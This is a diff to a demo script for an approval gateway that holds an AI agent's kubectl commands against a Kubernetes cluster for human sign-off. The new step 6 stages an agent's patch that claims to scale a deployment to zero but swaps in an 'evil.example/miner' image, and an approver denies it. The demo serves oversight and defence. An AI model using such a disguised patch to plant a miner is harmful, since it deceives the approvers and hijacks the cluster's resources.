@@ -31,10 +31,31 @@ const changedLines = (before: string, after: string) => {
     .join('\n');
 };
 
+/** The stack's rules plus the example's scale-to-zero, so step 6 is held. */
+const DEMO_POLICY = {
+  default: 'allow',
+  rules: [
+    {
+      name: 'namespace-delete',
+      match: { verbs: ['delete', 'deletecollection'], resources: ['namespaces'] },
+      require: { group: 'sre-oncall', approvals: 1 },
+    },
+    {
+      name: 'production-delete-or-exec',
+      match: {
+        verbs: ['delete', 'deletecollection', 'exec', 'attach'],
+        namespaces: ['prod-*', 'payments-*'],
+      },
+      require: { group: 'sre-oncall', approvals: 1 },
+    },
+    { name: 'scale-to-zero', match: { scaleToZero: true }, require: { group: 'sre-oncall', approvals: 1 } },
+  ],
+};
+
 async function main(): Promise<void> {
   step('Starting Gatehouse (gateway and slackbot processes) with demo stand-ins');
   // The blast-radius preview on, as in production (the stack leaves it off for other suites).
-  const stack = await startStack({ gateway: { previewTimeout: '3s' } });
+  const stack = await startStack({ gateway: { previewTimeout: '3s' }, policy: DEMO_POLICY });
   try {
     show(
       'demo',
@@ -106,7 +127,42 @@ async function main(): Promise<void> {
     show('agent sees', `${denied.stdout}${denied.stderr}(exit ${denied.code})`);
     show('cluster received', `${cluster().length - before} new DELETE requests`);
 
-    step('6. The record: gatehouse-audit show <id>, then verify');
+    step('6. The agent patches deployment api "to scale it to zero"; the same patch swaps the image');
+    stack.upstream.store.put(deployment({ name: 'api', namespace: 'payments-staging' }, 3));
+    const patch = {
+      spec: {
+        replicas: 0,
+        template: { spec: { containers: [{ name: 'app', image: 'evil.example/miner:1' }] } },
+      },
+    };
+    const patching = stack.kubectl([
+      'patch',
+      'deployment',
+      'api',
+      '-n',
+      'payments-staging',
+      '--type=merge',
+      '-p',
+      JSON.stringify(patch),
+    ]);
+    const [, , patchMessage] = await stack.waitForMessages(3);
+    await stack.slack.waitFor('the change', () =>
+      visibleText(stack.message(patchMessage!.ts).blocks).includes('What it changes'),
+    );
+    const patchSeen = seen(stack.message(patchMessage!.ts).blocks);
+    // The rule's one line is context; the diff from the server's dry run is what it does.
+    show(
+      'approvers see (Slack)',
+      patchSeen.slice(
+        patchSeen.indexOf('kubectl patch'),
+        patchSeen.lastIndexOf('\n', patchSeen.indexOf('Waiting for approval')),
+      ),
+    );
+    await stack.deny(PEOPLE.bob, patchMessage!, 'that is not a scale: the image changes');
+    const patchDenied = await patching.result();
+    show('agent sees', `${patchDenied.stdout}${patchDenied.stderr}(exit ${patchDenied.code})`);
+
+    step('7. The record: gatehouse-audit show <id>, then verify');
     for (const shown of messages) {
       const id = String(shown.metadata?.event_payload.approval_id);
       show('auditor sees', (await stack.audit(['show', id])).stdout);
